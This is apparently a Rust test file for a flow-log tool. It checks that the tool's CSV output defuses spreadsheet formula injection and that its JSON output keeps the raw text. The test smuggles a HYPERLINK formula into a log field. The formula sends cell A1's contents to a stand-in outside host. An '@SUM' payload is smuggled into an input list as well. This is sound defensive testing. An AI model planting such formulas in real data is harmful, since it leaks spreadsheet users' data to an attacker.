//! Cells that a spreadsheet would compute.

use super::{HEADER, MEMORY, RECORD, file, within};

const FORMULA: &str = "=HYPERLINK(\"http://198.51.100.7/\"&A1)";

/// The texts of all cells.
fn cells(csv: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
    reader
        .records()
        .flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

#[test]
fn no_cell_of_csv_is_a_formula_and_its_text_is_kept() {
    let header = HEADER.replace("account-id", "account-id vpc-id");
    let record = RECORD.replace("123456789012", &format!("123456789012 {FORMULA}"));
    let (_logs, logs) = file("a.log", format!("{header}{record}"));
    let (_list, list) = file("a.csv", "ip,label\n203.0.113.9,@SUM(A1)\n");
    let volumes = within(MEMORY, &["volumes", "--by", "vpc", "--format=csv", "--logs", &logs]);
    assert!(cells(&volumes.out).contains(&format!("'{FORMULA}")), "{volumes:?}");
    let scan = within(MEMORY, &["scan", "--format=csv", "--logs", &logs, "--list", &list]);
    assert!(cells(&scan.out).contains(&"'@SUM(A1)".to_owned()), "{scan:?}");
    let sql =
        "SELECT vpc_id, '+1+1' AS a, '\t=1' AS b, '-' AS c, '-5' AS d, -5 AS e FROM flow_logs";
    let query = within(MEMORY, &["query", "--format=csv", "--logs", &logs, sql]);
    let expected = [&format!("'{FORMULA}"), "'+1+1", "\\t=1", "-", "-5", "-5"];
    assert_eq!(cells(&query.out)[6..], expected, "{query:?}");
    // Programs that read JSON have the text as it is.
    let json = within(MEMORY, &["volumes", "--by", "vpc", "--format=json", "--logs", &logs]);
    assert_eq!(json.json()[0]["vpc"], FORMULA);
}
